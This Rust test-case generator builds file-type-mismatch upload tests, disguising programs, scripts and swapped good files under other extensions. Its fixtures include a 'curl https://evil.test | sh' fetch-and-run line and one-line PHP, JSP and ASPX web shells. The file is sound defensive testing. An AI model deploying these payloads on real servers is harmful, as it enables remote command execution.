//! Programs, scripts and pages under the name of every kind of file that is on the list, and each kind under the names
//! of the others.

use harness::samples;

use super::case::{Case, Evil, Place};

const MISMATCH: &str = "upload.type_mismatch";
const TURNS: [Place; 5] = [Place::Only, Place::First, Place::Second, Place::Last, Place::Put];

/// Extensions that stand for one kind each.
pub(super) const KINDS: &[&str] = &[
    "jpg", "png", "gif", "webp", "bmp", "tiff", "ico", "avif", "heic", "svg", "mp4", "mov", "webm", "avi",
    "mp3", "wav", "ogg", "flac", "pdf", "docx", "xlsx", "pptx", "odt", "xls", "rtf", "zip", "gz", "tar",
    "txt", "csv", "json",
];

/// Technique and content.
pub(super) fn programs() -> Vec<(&'static str, Vec<u8>)> {
    let text = |text: &str| text.as_bytes().to_vec();
    vec![
        ("pe", windows_program()),
        ("elf", linux_program()),
        ("mach-o", [b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0".as_slice(), &[0; 200]].concat()),
        ("java-class", [b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\x06\0\x0f".as_slice(), &[0; 100]].concat()),
        ("shell", text("#!/bin/sh\ncurl https://evil.test | sh\n")),
        ("php", text("<?php system($_GET['c']); ?>\n")),
        (
            "jsp",
            text(
                "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n",
            ),
        ),
        (
            "aspx",
            text("<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(Request[\"c\"]); %>\n"),
        ),
        ("html", text("<!DOCTYPE html><html><body><script>fetch('/api/me')</script></body></html>\n")),
        ("svg-script", text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n")),
    ]
}

pub(super) fn windows_program() -> Vec<u8> {
    let mut program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    program.resize(60, 0);
    program.extend_from_slice(&128u32.to_le_bytes());
    program.extend_from_slice(b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$");
    program.resize(128, 0);
    program.extend_from_slice(b"PE\0\0\x64\x86\x02\0");
    program.resize(600, 0);
    program
}

pub(super) fn linux_program() -> Vec<u8> {
    let mut program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    program.resize(400, 0);
    program
}

pub(super) fn cases() -> Vec<Case> {
    let programs = programs();
    let mut evils = Vec::new();
    for kind in KINDS {
        for (technique, content) in &programs {
            // That one is looked at as what it is: see `svg`.
            if !(*technique == "svg-script" && *kind == "svg") {
                let name = format!("program/{technique} as {kind}");
                evils.push(Evil::new(name, &format!("a.{kind}"), content.clone(), MISMATCH));
            }
        }
    }
    evils.extend(swapped());
    evils.extend(empty());
    evils.extend(declared());
    let turn = |(at, evil)| Case::places(evil, &[TURNS[at % TURNS.len()]]);
    evils.into_iter().enumerate().flat_map(turn).collect()
}

/// Nothing at all, which is a text at most.
fn empty() -> Vec<Evil> {
    let kinds = KINDS.iter().filter(|kind| !["txt", "csv", "json"].contains(*kind));
    kinds.map(|kind| Evil::new(format!("empty/{kind}"), &format!("a.{kind}"), Vec::new(), MISMATCH)).collect()
}

/// Good files that are said to be something else, because an app may serve them as what they were said to be.
fn declared() -> Vec<Evil> {
    let others = [
        ("text/html", "html"),
        ("application/x-httpd-php", "php"),
        ("image/svg+xml", "svg"),
        ("image/png", "png"),
        ("application/pdf", "pdf"),
        ("video/mp4", "mp4"),
    ];
    let mut evils = Vec::new();
    for kind in KINDS {
        let content = &good(kind).content;
        for (media_type, other) in others {
            let same = *kind == other || ["mp4", "mov"].iter().all(|film| [*kind, other].contains(film));
            if !same {
                let name = format!("declared/{kind} as {media_type}");
                let evil = Evil::new(name, &format!("a.{kind}"), content.clone(), MISMATCH);
                evils.push(evil.declared(media_type));
            }
        }
    }
    evils
}

fn good(kind: &str) -> &'static samples::Sample {
    let sample = samples::all().iter().find(|sample| sample.is_good() && sample.extension == kind);
    sample.unwrap_or_else(|| panic!("there is no good {kind}"))
}

/// Kinds that are one container under several names, or that a reader cannot tell apart.
const ALIKE: &[&[&str]] = &[
    &["txt", "csv", "json"],
    &["mp4", "mov"],
    // An office file is a zip, too.
    &["zip", "docx", "xlsx", "pptx", "odt"],
];

/// A good file of each kind under the name of each other: of every seventh pair, so that all kinds come on both sides.
fn swapped() -> Vec<Evil> {
    let mut evils = Vec::new();
    for (row, own) in KINDS.iter().enumerate() {
        let sample = good(own);
        for (column, other) in KINDS.iter().enumerate() {
            let alike = own == other
                || ALIKE.iter().any(|group| group.contains(own) && group.contains(other))
                || (["txt", "csv", "json"].contains(other) && ["svg", "rtf"].contains(own));
            if !alike && (row * 3 + column) % 4 == 0 {
                let name = format!("swapped/{} as {other}", sample.name);
                evils.push(Evil::new(name, &format!("a.{other}"), sample.content.clone(), MISMATCH));
            }
        }
    }
    for (own, other) in
        [("zip", "docx"), ("docx", "xlsx"), ("xlsx", "pptx"), ("pptx", "docx"), ("zip", "xlsx")]
    {
        let content = good(own).content.clone();
        evils.push(Evil::new(format!("swapped/{own} as {other}"), &format!("a.{other}"), content, MISMATCH));
    }
    evils
}
